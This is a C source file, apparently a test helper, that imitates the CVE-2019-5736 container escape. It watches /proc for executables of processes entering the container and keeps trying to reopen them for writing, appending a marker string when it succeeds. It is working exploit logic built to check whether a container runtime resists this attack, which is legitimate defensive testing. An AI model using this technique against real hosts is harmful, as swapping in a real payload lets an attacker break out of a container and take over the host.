/* SPDX-License-Identifier: Apache-2.0 */
/*
 * exe_writer: what a hostile container does to overwrite the program that enters it (CVE-2019-5736). It looks at
 * /proc/PID/exe of every other process, keeps each program that it has not seen open for reading, and tries again and
 * again to open that for writing: it succeeds when the last process that executes it is gone and nothing else forbids
 * it. exe_writer RESULT SECONDS: says "ready" on RESULT, a FIFO, notes what it sees in the file "seen", looks until
 * something is written to the FIFO "end" or the seconds are over, then tries for the last time and writes to RESULT one
 * line for all: " seen:INODE" for each program, and " written:INODE" for each that it could write to. Runs inside a
 * container.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define SEEN_MAX 64

static struct program {
    dev_t device;
    ino_t inode;
    int fd;
    bool written;
} seen[SEEN_MAX];
static int seen_count;

static bool is_known(const struct stat *st) {
    for (int i = 0; i < seen_count; i++)
        if (seen[i].device == st->st_dev && seen[i].inode == st->st_ino)
            return true;
    return false;
}

static void look_at(const char *pid) {
    char path[300];
    struct stat st, own;
    snprintf(path, sizeof path, "/proc/%s/exe", pid);
    if (stat(path, &st) < 0 || stat("/proc/self/exe", &own) < 0 || is_known(&st) || seen_count == SEEN_MAX)
        return;
    if (st.st_dev == own.st_dev && st.st_ino == own.st_ino)
        return;
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return;
    FILE *log = fopen("/seen", "a");
    if (log) {
        fprintf(log, " seen:%lu\n", (unsigned long)st.st_ino);
        fclose(log);
    }
    seen[seen_count++] = (struct program){.device = st.st_dev, .inode = st.st_ino, .fd = fd};
}

static void look_around(void) {
    DIR *proc = opendir("/proc");
    struct dirent *entry;
    while (proc && (entry = readdir(proc)))
        if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9')
            look_at(entry->d_name);
    if (proc)
        closedir(proc);
}

static void try_to_write(void) {
    for (int i = 0; i < seen_count; i++) {
        char path[64];
        snprintf(path, sizeof path, "/proc/self/fd/%d", seen[i].fd);
        int fd = seen[i].written ? -1 : open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
        if (fd < 0)
            continue;
        seen[i].written = write(fd, "overwritten", 11) == 11;
        close(fd);
    }
}

static void tell(const char *path, const char *text) {
    FILE *out = fopen(path, "w");
    if (out) {
        fputs(text, out);
        fclose(out);
    }
}

int main(int argc, char **argv) {
    if (argc != 3)
        return 2;
    time_t deadline = time(NULL) + atoi(argv[2]);
    char text[SEEN_MAX * 64] = "", byte;
    int end = open("/end", O_RDONLY | O_NONBLOCK | O_CLOEXEC);
    tell(argv[1], "ready\n");
    while (time(NULL) < deadline && read(end, &byte, 1) <= 0) {
        look_around();
        try_to_write();
    }
    try_to_write();
    for (int i = 0; i < seen_count; i++) {
        size_t len = strlen(text);
        unsigned long inode = (unsigned long)seen[i].inode;
        snprintf(text + len, sizeof text - len, " seen:%lu", inode);
        len = strlen(text);
        if (seen[i].written)
            snprintf(text + len, sizeof text - len, " written:%lu", inode);
    }
    strcat(text, "\n");
    tell(argv[1], text);
    return 0;
}
